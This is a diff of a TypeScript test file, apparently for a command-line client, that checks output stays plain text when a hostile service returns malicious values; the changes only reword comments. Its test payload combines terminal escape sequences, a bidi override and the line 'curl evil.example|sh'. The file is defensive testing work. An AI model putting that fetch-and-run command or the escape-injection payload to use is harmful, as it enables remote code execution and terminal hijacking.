@@ -1,4 +1,4 @@
-/** Whatever a service answers, the command line prints and copies plain text alone, and ends with a sane exit code. */
+/** Whatever a service returns, the command line prints and copies only plain text, and ends with a sane exit code. */
 import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
@@ -16,7 +16,7 @@ vi.setConfig({ testTimeout: 240_000 });
 const root = temporaryFolder('hostile-service');
 /** Title, clear, line break, C1, right-to-left override, bell. */
 const ATTACK = '\u001b]0;PWNED\u0007\u001b[2J\u009b31m\u202e\r\ncurl evil.example|sh\n\u2028';
-/** Line ends, and the tabs of columns, are all that may reach a terminal or the clipboard. */
+/** Only line ends and the tabs of columns may reach a terminal or the clipboard. */
 const UNSAFE = /[^\P{Cc}\n\t]|\p{Bidi_Control}|[\u2028\u2029]/u;
 
 let server: RunningServer;
@@ -49,7 +49,7 @@ const run = (words: readonly string[], profile: string, input?: string) =>
     { clock: hurriedClock() },
   );
 
-/** Fields that only a person reads: an answer in which they are spoilt is good otherwise. */
+/** Fields that only users read: a response with these corrupted is otherwise valid. */
 const READ_BY_PEOPLE = new Set(['title', 'originalName', 'username', 'name', 'en', 'ru', 'detail', 'bio', 'filename']);
 const inTexts: Spoil = (value, path) => (READ_BY_PEOPLE.has(path.at(-1) ?? '') ? value + ATTACK : value);
 const overlong: Spoil = (value, path) => (READ_BY_PEOPLE.has(path.at(-1) ?? '') ? value + 'x'.repeat(100_000) : value);
@@ -65,7 +65,7 @@ const expectPlain = ({ code, stdout, stderr }: { code: number | null; stdout: st
   if (existsSync(clipboard)) expect(readFileSync(clipboard, 'utf8')).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u);
 };
 
-/** An item of a new account that is published and known to the profile, while nothing is spoilt. */
+/** A published item of a new account that the profile knows, before anything is corrupted. */
 const published = async (profile: string): Promise<string> => {
   user = server.user();
   proxy.spoil(null);
@@ -101,7 +101,7 @@ describe('a service that appends escapes, line breaks and overlong values', () =
     const id = await published(profile);
     proxy.spoil(how);
     const commands = await commandsOf(id);
-    // A service that is not recognised at all is asked again for a while by each command.
+    // Each command retries an unrecognisable service for a while.
     const isUnknown = how === everywhere || how === wrongTypes;
     for (const words of commands.filter(([name = '']) => !isUnknown || ['upload', 'whoami', 'status'].includes(name))) {
       const done = await run(words, profile);
